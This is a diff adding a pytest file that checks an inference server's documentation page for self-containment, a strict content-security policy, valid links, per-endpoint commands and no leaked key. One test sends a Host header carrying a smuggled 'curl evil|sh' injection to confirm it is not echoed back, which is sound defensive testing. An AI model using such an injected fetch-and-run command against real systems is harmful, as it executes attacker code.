@@ -1,0 +1,56 @@
+"""`/docs`: complete, self-contained, and its commands name this server."""
+
+import re
+from html.parser import HTMLParser
+
+import httpx
+
+
+class Page(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.links: list[str] = []
+        self.ids: list[str] = []
+        self.loaded: list[str] = []
+        self.tags: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        given = dict(attrs)
+        self.tags.append(tag)
+        self.ids += [given["id"]] if "id" in given else []
+        self.links += [given["href"]] if "href" in given else []
+        self.loaded += [given["src"]] if "src" in given else []
+
+
+def test_the_page(server):
+    answer = httpx.get(f"{server.url}/docs")
+    assert answer.status_code == 200
+    assert answer.headers["content-type"] == "text/html; charset=utf-8"
+    assert "default-src 'none'" in answer.headers["content-security-policy"]
+    page = Page()
+    page.feed(answer.text)
+    assert page.loaded == []
+    assert not {"script", "link", "img", "iframe"} & set(page.tags)
+    assert "url(" not in answer.text
+    assert "@import" not in answer.text
+    assert len(page.ids) == len(set(page.ids))
+    assert {link.removeprefix("#") for link in page.links if link.startswith("#")} <= set(page.ids)
+    assert [link for link in page.links if not link.startswith("#")] == ["/openapi.json"]
+
+
+def test_every_operation_has_a_command_for_this_server(server):
+    text = httpx.get(f"{server.url}/docs").text
+    for path in ("/v1/inference", "/v1/runs", "/v1/runs/{id}/cancel", "/v1/models", "/v1/health"):
+        assert f"{server.url}{path}" in text, path
+    assert server.key not in text
+
+
+def test_both_themes_and_small_screens(server):
+    text = httpx.get(f"{server.url}/docs").text
+    assert "prefers-color-scheme: dark" in text
+    assert re.search(r'<meta name="viewport"', text)
+
+
+def test_a_strange_host_is_not_repeated(server):
+    text = httpx.get(f"{server.url}/docs", headers={"Host": "x';curl evil|sh;'"}).text
+    assert "evil" not in text
